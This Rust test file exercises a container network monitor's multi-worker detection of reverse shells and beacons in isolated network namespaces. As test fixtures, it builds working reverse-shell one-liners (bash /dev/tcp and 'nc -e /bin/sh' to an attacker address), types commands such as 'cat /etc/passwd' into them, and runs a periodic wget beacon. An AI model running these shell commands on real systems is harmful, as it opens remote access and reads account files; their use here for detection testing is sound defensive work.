//! `vethwatch node` with several workers: whatever worker has a container, what is found is the same.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, missing_docs)]

#[path = "support/containerd.rs"]
mod containerd;
#[path = "support/host.rs"]
mod host;
#[path = "support/namespace.rs"]
mod namespace;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread;
use std::time::Duration;

use containerd::{Containerd, Pod, within};
use host::{ATTACKER, FETCH, Host, VETHWATCH, alerts, findings, ip, of_kind, until};
use serde_json::Value;
use vethwatch::capture::live::share_of;

/// A second address in the namespace that plays the host.
const ELSEWHERE: &str = "203.0.113.67";

/// Calls each of some addresses, so many times, once in 1.1 seconds.
const CALL: &str = "import sys,time,urllib.request
begin=time.time()
for n in range(int(sys.argv[1])):
    time.sleep(max(0,begin+n*1.1-time.time()))
    for a in sys.argv[2:]: urllib.request.urlopen('http://%s:8080/'%a).read()";

/// Listens in a container as [`host::LISTEN`] does on the host.
fn listen_in(host: &mut Host, container: &str) -> usize {
    let listen = host::LISTEN.replace(ATTACKER, "0.0.0.0");
    let listener = host.start(container, "python3", &["-c", &listen]);
    host.hears(listener, "listening");
    listener
}

fn config(host: &Host, workers: u32) -> PathBuf {
    let path = host.path(&format!("{workers}.toml"));
    fs::write(&path, format!("[capture]\nworkers = {workers}\n")).unwrap();
    path
}

/// Watches with so many workers.
fn watch(host: &mut Host, workers: u32, records: &Path, more: &[&str]) -> usize {
    let config = config(host, workers);
    host.watch(records, &[&["--config", config.to_str().unwrap()], more].concat())
}

/// Which of two workers has an interface of the host's.
fn worker_of(host: &Host, interface: &str) -> u32 {
    let path = format!("/sys/class/net/{interface}/ifindex");
    // `nsenter` keeps this process's mounts, and with them its /sys.
    let asked = Command::new("ip").args(["netns", "exec", &host.name, "cat", &path]).output();
    String::from_utf8(asked.unwrap().stdout)
        .unwrap()
        .trim()
        .parse()
        .map(|index| share_of(index, 2))
        .unwrap()
}

/// The host's interfaces of containers.
fn interfaces(host: &Host) -> BTreeSet<String> {
    let asked = ["-n", &host.name, "-o", "link", "show", "type", "veth"];
    let shown = Command::new("ip").args(asked).output().unwrap().stdout;
    let shown = String::from_utf8(shown).unwrap();
    let names = shown.lines().filter_map(|line| line.split(": ").nth(1));
    names.map(|name| name.split('@').next().unwrap().to_owned()).collect()
}

fn type_into(host: &mut Host, listener: usize, commands: &[&str]) {
    host.hears(listener, "connected");
    let typing = host.children[listener].stdin.as_mut().unwrap();
    for command in commands {
        typing.write_all(command.as_bytes()).unwrap();
        thread::sleep(Duration::from_millis(400));
    }
}

fn start_shell(host: &mut Host, container: &str, to: &str) {
    let shell = format!("exec 3<>/dev/tcp/{to}/4444; exec sh <&3 >&3 2>&3");
    host.start(container, "bash", &["-c", &shell]);
}

/// Ends the watcher, in time and with all that it counted.
fn end(host: &mut Host, watcher: usize, records: &Path) -> Value {
    let took = host.end(watcher);
    assert!(took < Duration::from_secs(2), "{took:?}");
    let last = of_kind(records, "stats").pop().unwrap()["vethwatch"].take();
    assert_eq!(last["final"], true);
    last
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_shell_is_found_by_its_worker_and_a_pod_of_another_is_silent() {
    let mut host = Host::new();
    let Some(mut containerd) = Containerd::start(&host.name) else {
        host::skipped("containerd cannot be installed here");
        return;
    };
    let (records, state) = (host.path("records.json"), host.path("state"));
    let socket = containerd.socket();
    let runtime = ["--cri-socket", socket.to_str().unwrap(), "--state", state.to_str().unwrap()];
    let watcher = watch(&mut host, 2, &records, &runtime);
    host.serve();
    let listener = host.listen();

    let pod = |name, uid| Pod { name, namespace: "shop", uid, labels: &[], host_network: false };
    let uid = |number: u8| format!("8a9a5e5e-3e6f-4a57-8d8d-5f5c1c3f2b{number:02x}");
    let (benign, attacked) = (uid(1), uid(2));
    let neighbour = pod("api-0", &benign);
    let before = interfaces(&host);
    let sandbox = containerd.run_pod(&neighbour);
    let with_neighbour = interfaces(&host);
    let ask =
        format!("while true; do wget -q -O /dev/null http://{ATTACKER}:8080/; sleep 0.3; done");
    containerd.run_container(&sandbox, &neighbour, "api", &["sh", "-c", &ask]);
    let of_neighbour = worker_of(&host, with_neighbour.difference(&before).next().unwrap());
    // Pods until one is the other worker's.
    let target = pod("web-0", &attacked);
    let sandbox = (0..8).find_map(|_| {
        let before = interfaces(&host);
        let sandbox = containerd.run_pod(&target);
        let after = interfaces(&host);
        if worker_of(&host, after.difference(&before).next().unwrap()) != of_neighbour {
            return Some(sandbox);
        }
        containerd.remove_pod(&sandbox);
        None
    });
    let shell = format!("nc {ATTACKER} 4444 -e /bin/sh; sleep 60");
    containerd.run_container(&sandbox.unwrap(), &target, "app", &["sh", "-c", &shell]);
    type_into(&mut host, listener, &["id\n"]);
    host.hears(listener, "uid=0");
    until(Duration::from_secs(2), || !alerts(&records).is_empty());
    type_into(&mut host, listener, &["cat /etc/passwd\n", "ls /\n"]);
    end(&mut host, watcher, &records);

    let alerts = alerts(&records);
    for alert in &alerts {
        assert_eq!(alert["vethwatch"]["detector"], "reverse_shell", "{alert}");
        assert_eq!(alert["kubernetes"]["pod"], "web-0", "{alert}");
        assert_eq!(alert["container"]["attribution"], "runtime", "{alert}");
    }
    assert_eq!(alerts.last().unwrap()["container"]["name"], "app", "{alerts:?}");
    assert_eq!(findings(&alerts).len(), 1, "{alerts:?}");
    let flows = of_kind(&records, "flow");
    let flows = flows.iter().filter(|flow| flow["kubernetes"]["pod"] == "api-0").count();
    assert!(flows > 3, "{flows} flows of the neighbour");

    // What was kept by two is taken up by one, and by three.
    let mut before = workloads(&state);
    assert_eq!(before.keys().collect::<Vec<_>>(), ["Pod/api-0", "Pod/web-0"]);
    for workers in [1, 3] {
        let records = host.path(&format!("again{workers}.json"));
        let watcher = watch(&mut host, workers, &records, &runtime);
        let of_both = || {
            let flows = of_kind(&records, "flow");
            let pods = flows.iter().filter_map(|flow| flow["kubernetes"]["pod"].as_str());
            pods.map(str::to_owned).collect::<BTreeSet<String>>().len() == 1
        };
        until(Duration::from_secs(9), of_both);
        end(&mut host, watcher, &records);
        let after = workloads(&state);
        assert_eq!(after.len(), 2);
        for (pod, [since, flows]) in &after {
            assert_eq!(*since, before[pod][0], "{pod} with {workers}");
            assert!(*flows >= before[pod][1], "{pod} with {workers}: {flows} {before:?}");
        }
        assert!(after["Pod/api-0"][1] > before["Pod/api-0"][1], "it goes on: {after:?}");
        before = after;
    }
}

/// The workloads in a state file: since when each is known, and its flows.
fn workloads(state: &Path) -> BTreeMap<String, [u64; 2]> {
    let text = fs::read_to_string(state).unwrap();
    let lines = text.lines().skip(1).map(|line| serde_json::from_str::<Value>(line).unwrap());
    let read = |line: Value| {
        let owner = line["workload"]["kubernetes"]["owner"].as_str().unwrap().to_owned();
        let destinations = line["destinations"].as_array().unwrap();
        let flows = destinations.iter().map(|one| one[3].as_u64().unwrap()).sum();
        (owner, [line["first_seen"].as_u64().unwrap(), flows])
    };
    lines.map(read).collect()
}

#[test]
#[ignore = "needs root and network namespaces"]
fn siblings_of_several_workers_have_a_heartbeat_and_no_beacon() {
    let mut host = Host::new();
    ip(&format!("-n {} addr add {ELSEWHERE}/32 dev lo", host.name));
    let containers = [1, 2, 3].map(|number| host.container(number));
    let records = host.path("records.json");
    let watcher = watch(&mut host, 2, &records, &["--events", "alert,stats"]);
    assert_eq!(["c1", "c2", "c3"].map(|name| worker_of(&host, name)), [0, 1, 0]);
    host.serve();
    for (container, also) in containers.iter().zip([&[][..], &[ELSEWHERE], &[]]) {
        let arguments = [&["-c", CALL, "18", ATTACKER], also].concat();
        host.start(container, "python3", &arguments);
    }
    let of = |address: &str| -> Vec<Value> {
        let found = alerts(&records);
        let serious = |alert: &Value| alert["vethwatch"]["severity"] != "info";
        found.into_iter().filter(|one| one["dest_ip"] == address && serious(one)).collect()
    };
    until(Duration::from_secs(30), || !of(ELSEWHERE).is_empty());
    thread::sleep(Duration::from_secs(4));
    end(&mut host, watcher, &records);
    assert_eq!(of(ATTACKER), [] as [Value; 0], "all three do it");
    for alert in of(ELSEWHERE) {
        assert_eq!(alert["vethwatch"]["detector"], "beacon", "one alone does it: {alert}");
        assert_eq!(alert["src_ip"], "10.213.2.2", "{alert}");
    }
}

#[test]
#[ignore = "needs root and network namespaces"]
fn what_several_workers_keep_replays_to_the_same_findings() {
    let mut host = Host::new();
    let [one, other, third] = [1, 2, 3].map(|number| host.container(number));
    let name = host.name.clone();
    let forward = "echo 1 > /proc/sys/net/ipv4/ip_forward";
    let done = Command::new("ip").args(["netns", "exec", &name, "sh", "-c", forward]).status();
    assert!(done.unwrap().success());
    let (records, kept) = (host.path("records.json"), host.path("kept.pcapng"));
    let watcher = watch(&mut host, 2, &records, &["--write", kept.to_str().unwrap()]);
    host.serve();
    let page = format!("http://{ATTACKER}:8080/");
    host.start(&third, "python3", &["-c", FETCH, &page, "6"]);
    // One shell to the attacker, and one to a container of the other worker.
    let listeners = [host.listen(), listen_in(&mut host, &other)];
    start_shell(&mut host, &one, ATTACKER);
    start_shell(&mut host, &third, "10.213.2.2");
    for listener in listeners {
        type_into(&mut host, listener, &["id\n", "uname -a\n", "cat /etc/passwd\n", "ls /\n"]);
    }
    let shells = |records: &Path| -> BTreeSet<String> {
        let all = alerts(records);
        let shells = all.iter().filter(|alert| alert["vethwatch"]["detector"] == "reverse_shell");
        shells.map(|alert| alert["in_iface"].as_str().unwrap().to_owned()).collect()
    };
    let expected = ["c1", "c3"].map(str::to_owned);
    until(Duration::from_secs(3), || expected.iter().all(|one| shells(&records).contains(one)));
    for listener in listeners {
        host.children[listener].stdin = None;
    }
    thread::sleep(Duration::from_secs(1));
    let stats = end(&mut host, watcher, &records);

    // Between two containers, each worker has its own container's side.
    let flows = of_kind(&records, "flow");
    let of_both: BTreeSet<_> = flows
        .iter()
        .filter(|flow| flow["src_ip"] == "10.213.3.2" && flow["dest_ip"] == "10.213.2.2")
        .map(|flow| (flow["in_iface"].to_string(), flow["community_id"].to_string()))
        .collect();
    assert_eq!(of_both.len(), 2, "{of_both:?}");
    let ids: BTreeSet<_> = of_both.iter().map(|(_, id)| id).collect();
    assert_eq!(ids.len(), 1, "the same conversation: {of_both:?}");
    let numbers: Vec<u64> = flows.iter().map(|flow| flow["flow_id"].as_u64().unwrap()).collect();
    let opened = stats["counters"]["flows"].as_u64().unwrap();
    let distinct = numbers.iter().collect::<BTreeSet<_>>().len() as u64;
    assert_eq!(distinct, opened, "a number a flow, and all are counted");

    let replayed = host.path("replayed.json");
    let second = host.path("kept.pcapng.worker-1");
    let status = Command::new(VETHWATCH)
        .args(["replay", "--no-progress", "--format", "eve", "--output"])
        .args([&replayed, &kept, &second])
        .status();
    assert!(status.unwrap().success());
    assert_eq!(findings(&alerts(&records)), findings(&alerts(&replayed)));
    let again = of_kind(&replayed, "stats").pop().unwrap();
    let again = &again["vethwatch"]["counters"];
    for count in ["frames", "frame_bytes", "flows", "containers", "alerts"] {
        assert_eq!(stats["counters"][count], again[count], "{count}");
    }
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_new_allow_list_is_every_workers_and_counted_together() {
    let mut host = Host::new();
    let containers = [1, 2].map(|number| host.container(number));
    let records = host.path("records.json");
    let watcher = watch(&mut host, 2, &records, &["--events", "alert,stats"]);
    assert_ne!(worker_of(&host, "c1"), worker_of(&host, "c2"));
    let allow = "[[allow]]\nreason = \"a drill\"\nowner = \"red team\"\nport = 4444\n";
    let path = host.path("2.toml");
    fs::write(&path, format!("{}{allow}", fs::read_to_string(&path).unwrap())).unwrap();
    host.signal(watcher, "-HUP");
    host.hears(watcher, "allow-list entries: 1");
    for container in &containers {
        let listener = host.listen();
        start_shell(&mut host, container, ATTACKER);
        type_into(&mut host, listener, &["id\n", "uname -a\n", "cat /etc/passwd\n"]);
        host.children[listener].kill().unwrap();
        host.children[listener].wait().unwrap();
    }
    thread::sleep(Duration::from_millis(500));
    let stats = end(&mut host, watcher, &records);
    assert_eq!(alerts(&records), [] as [Value; 0]);
    assert_eq!(stats["allow"][0]["silenced_findings"], 2, "{stats}");
    assert_eq!(stats["counters"]["alerts_allowed"], 2, "{stats}");
}

/// Followed each for itself, as with one worker.
#[test]
#[ignore = "needs root and network namespaces"]
fn interfaces_of_two_workers_are_one_containers() {
    let mut host = Host::new();
    let container = host.container(1);
    let (name, first) = (host.name.clone(), worker_of(&host, "c1"));
    let index = (40..).find(|index| share_of(*index, 2) != first).unwrap();
    let second = format!("-n {name} link add c9 index {index} type veth peer name eth1");
    ip(&format!("{second} netns {container}"));
    for (namespace, interface, address) in [(&name, "c9", 1), (&container, "eth1", 2)] {
        ip(&format!("-n {namespace} addr add 10.213.9.{address}/24 dev {interface}"));
        ip(&format!("-n {namespace} link set {interface} up"));
    }
    ip(&format!("-n {container} route add {ATTACKER}/32 via 10.213.9.1"));
    host.serve();
    let seen = [1, 2].map(|workers| {
        let records = host.path(&format!("records{workers}.json"));
        let watcher = watch(&mut host, workers, &records, &[]);
        let listener = host.listen();
        start_shell(&mut host, &container, ATTACKER);
        type_into(&mut host, listener, &["id\n", "uname -a\n", "cat /etc/passwd\n"]);
        let page = "http://10.213.1.1:8080/";
        let fetched = within(&container, "python3").args(["-c", FETCH, page, "2"]).status();
        assert!(fetched.unwrap().success());
        until(Duration::from_secs(3), || !alerts(&records).is_empty());
        host.children[listener].kill().unwrap();
        host.children[listener].wait().unwrap();
        thread::sleep(Duration::from_millis(500));
        end(&mut host, watcher, &records);
        let of = |record: &Value| {
            let part = |pointer| record.pointer(pointer).map(Value::to_string);
            ["/event_type", "/in_iface", "/container/id", "/dest_port"].map(part)
        };
        let tcp = [of_kind(&records, "flow"), alerts(&records)].concat();
        let tcp = tcp.iter().filter(|record| record["proto"] == "TCP");
        tcp.map(of).collect::<BTreeSet<_>>()
    });
    assert_eq!(seen[0], seen[1]);
    assert_eq!(seen[0].iter().map(|[.., id, _]| id).collect::<BTreeSet<_>>().len(), 1);
    assert_eq!(seen[0].len(), 3, "a flow on each, and a shell on one: {:?}", seen[0]);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn an_interface_that_changes_its_worker_goes_on_there() {
    let mut host = Host::new();
    let container = host.container(1);
    host.start(&container, "sleep", &["60"]);
    let records = host.path("records.json");
    let watcher = watch(&mut host, 2, &records, &["--events", "alert,flow,stats"]);
    let (name, away) = (host.name.clone(), format!("{}-away", host.name));
    ip(&format!("netns add {away}"));
    host.others.push(away.clone());
    let blind = || -> Vec<String> {
        let told = alerts(&records);
        told.iter().map(|alert| alert["vethwatch"]["state"].as_str().unwrap().to_owned()).collect()
    };
    let before = worker_of(&host, "c1");
    ip(&format!("-n {name} link set c1 netns {away}"));
    until(Duration::from_secs(9), || blind() == ["open"]);
    let index = (40..).find(|index| share_of(*index, 2) != before).unwrap();
    ip(&format!("-n {away} link set c1 netns {name} index {index}"));
    ip(&format!("-n {name} addr add 10.213.1.1/24 dev c1"));
    ip(&format!("-n {name} link set c1 up"));
    assert_ne!(worker_of(&host, "c1"), before);
    until(Duration::from_secs(2), || blind() == ["open", "close"]);
    host.serve();
    let fetched =
        within(&container, "python3").args(["-c", FETCH, "http://10.213.1.1:8080/", "2"]).status();
    assert!(fetched.unwrap().success());
    thread::sleep(Duration::from_millis(500));
    let stats = end(&mut host, watcher, &records);
    assert_eq!(stats["counters"]["containers"], 1);
    assert_eq!(blind(), ["open", "close"]);
    let flows = of_kind(&records, "flow");
    let web = flows.iter().filter(|flow| flow["dest_port"] == 8080 && flow["in_iface"] == "c1");
    assert_eq!(web.count(), 2);
}
